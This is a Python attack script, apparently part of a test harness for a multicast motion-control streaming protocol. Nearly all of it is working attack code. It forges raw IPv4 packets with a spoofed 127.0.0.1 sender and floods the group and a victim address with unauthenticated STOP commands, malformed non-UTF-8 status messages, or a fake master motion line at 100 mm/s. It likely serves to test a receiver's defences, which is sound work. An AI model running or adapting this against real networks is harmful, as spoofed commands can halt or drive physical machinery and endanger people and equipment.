#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Another machine on the same network: attack.py STOP|TEXT|MASTER VICTIM OWN_ADDRESS [SECONDS [AXIS]]

It has no key and receives nothing; it uses the protocol of docs/stream-protocol.md. Each packet goes to the
group by its own interface, to the victim's own address, and to the group with the sender forged as 127.0.0.1.
"""
import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "oracle"))
from wire_vectors import BODIES, f64, i8, i32, i64, message, text  # noqa: E402

GROUP, PORT = "239.255.76.67", 7667


def stop(axis):
    return "command", message("stop_t", axis, 0, 0, i32(1) + i8(0), None)


def broken_text(axis, number):
    """A status whose unit is no UTF-8, of a later tick than any."""
    sample = next(body[4] for body in BODIES if body[0] == "status_t")
    fields = sample.replace(text("deg", 16) + text("mm", 16), text("deg", 16) + b"\xff\xfe\xfd".ljust(16, b"\0"))
    assert fields != sample
    fields = fields[:2] + i64(1 << 40 | number) + fields[10:]
    return "status", message("status_t", axis, 0, 0, fields, None)


def master(name, number):
    """A line at 100 mm/s."""
    stamp = time.monotonic_ns()
    fields = i64(number, stamp) + i32(1) + i8(1) + f64(stamp * 1e-7, 100) + text("mm", 16)
    return "master", message("master_t", name, 0, 0, fields, None)


def packet(name, lane, bytes_, number):
    return struct.pack(">II", 0x4C433032, number) + f"JOUNCE2.{name}.{lane}".encode() + b"\0" + bytes_


def forged(payload):
    """An IPv4 packet with 127.0.0.1 as its sender; the kernel fills in its checksum and length."""
    udp = struct.pack(">HHHH", PORT, PORT, 8 + len(payload), 0) + payload
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 7, 0, 1, socket.IPPROTO_UDP, 0, socket.inet_aton("127.0.0.1"),
                       socket.inet_aton(GROUP)) + udp


def main():
    kind, victim, own = sys.argv[1:4]
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 1
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    name = "line" if kind == "MASTER" else sys.argv[5] if len(sys.argv) > 5 else "label"
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        number += 1
        lane, bytes_ = (stop(name) if kind == "STOP" else broken_text(name, number) if kind == "TEXT"
                        else master(name, number))
        data = packet(name, lane, bytes_, number)
        out.sendto(data, (GROUP, PORT))
        out.sendto(data, (victim, PORT))
        raw.sendto(forged(data), (GROUP, 0))
        time.sleep(0.01)
    print(f"{kind}: {number} packets by each of three ways")


main()
